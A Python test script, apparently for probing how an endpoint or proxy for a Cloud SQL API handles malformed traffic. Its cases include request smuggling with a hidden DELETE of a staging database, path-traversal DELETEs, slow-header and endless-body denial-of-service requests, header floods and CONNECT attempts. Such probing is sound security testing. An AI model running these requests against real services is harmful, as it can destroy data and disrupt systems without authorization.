"""Sends what no decent client sends; prints what came back.

bad_bytes.py KIND
"""

import socket
import ssl
import sys
import time

HOST = "sqladmin.googleapis.com"
PATH = "/sql/v1beta4/projects/lab-project/instances"
kind = sys.argv[1]


def plain(host=HOST, port=443):
    stream = socket.create_connection((host, port), timeout=20)
    stream.settimeout(20)
    return stream


def tls(sni=HOST, alpn=("http/1.1",)):
    context = ssl.create_default_context()
    context.set_alpn_protocols(list(alpn))
    if sni is None or sni != HOST:
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(plain(), server_hostname=sni)


def exchange(stream, request):
    try:
        stream.sendall(request)
    except OSError as error:
        print("send failed:", error)
    received = b""
    try:
        while len(received) < 65536:
            piece = stream.recv(4096)
            if not piece:
                break
            received += piece
            if b"\r\n\r\n" in received and b"HTTP/1." in received:
                break
    except OSError as error:
        print("receive failed:", error)
    print("received:", received.decode("latin-1"))


def get(*headers, target=PATH, verb="GET", host=HOST):
    lines = [f"{verb} {target} HTTP/1.1", f"Host: {host}", *headers, "", ""]
    return "\r\n".join(lines).encode()


def endless_body():
    stream = tls()
    stream.sendall(get("Content-Type: application/json", "Transfer-Encoding: chunked", verb="POST"))
    chunk = b"10000\r\n" + b"{" + b'"a":"' + b"x" * (0x10000 - 6) + b"\r\n"
    sent, started = 0, time.monotonic()
    try:
        while time.monotonic() - started < 60 and sent < 1 << 30:
            stream.sendall(chunk)
            sent += 0x10000
        print("never stopped after", sent, "bytes")
    except OSError as error:
        print("stopped:", error)
    exchange(stream, b"")


def slow_head():
    stream = tls()
    stream.sendall(b"GET " + PATH.encode())
    stream.settimeout(90)
    started = time.monotonic()
    try:
        while stream.recv(4096):
            pass
        print("received: closed after", time.monotonic() - started)
    except OSError as error:
        print("receive failed:", error)


def smuggled():
    body = b"0\r\n\r\nDELETE " + PATH.encode() + b"/staging-db HTTP/1.1\r\nHost: " + HOST.encode() + b"\r\n\r\n"
    head = get("Transfer-Encoding: chunked", f"Content-Length: {len(body)}", verb="POST")
    exchange(tls(), head + body)


KINDS = {
    "garbage": lambda: exchange(plain(), bytes(range(256)) * 16),
    "plain-http": lambda: exchange(plain(), get()),
    "ssh": lambda: exchange(plain(), b"SSH-2.0-OpenSSH_9.2\r\n"),
    "no-sni": lambda: exchange(tls(sni=None), get()),
    "other-sni": lambda: exchange(tls(sni="storage.googleapis.com"), get()),
    "unknown-sni": lambda: exchange(tls(sni="evil.example"), get(host="evil.example")),
    "other-host": lambda: exchange(tls(), get(host="storage.googleapis.com")),
    "two-hosts": lambda: exchange(tls(), get("Host: storage.googleapis.com")),
    "no-host": lambda: exchange(tls(), f"GET {PATH} HTTP/1.1\r\n\r\n".encode()),
    "megabyte-of-headers": lambda: exchange(tls(), get("X-Long: " + "x" * (1 << 20))),
    "many-headers": lambda: exchange(tls(), get(*[f"X-{n}: x" for n in range(50_000)])),
    "endless-body": endless_body,
    "slow-head": slow_head,
    "smuggled": smuggled,
    "connect": lambda: exchange(tls(), get(verb="CONNECT", target="evil.example:443")),
    "absolute-form": lambda: exchange(tls(), get(target=f"https://{HOST}{PATH}")),
    "upgrade": lambda: exchange(tls(), get("Connection: Upgrade", "Upgrade: websocket")),
    "dot-segments": lambda: exchange(tls(), get(target=PATH + "/../instances/staging-db", verb="DELETE")),
    "encoded-slash": lambda: exchange(tls(), get(target=PATH + "%2Fstaging-db", verb="DELETE")),
    "unknown-method": lambda: exchange(tls(), get(target="/sql/v1beta4/no/such/thing")),
}

try:
    KINDS[kind]()
except (OSError, ssl.SSLError) as error:
    print("failed:", type(error).__name__, error)
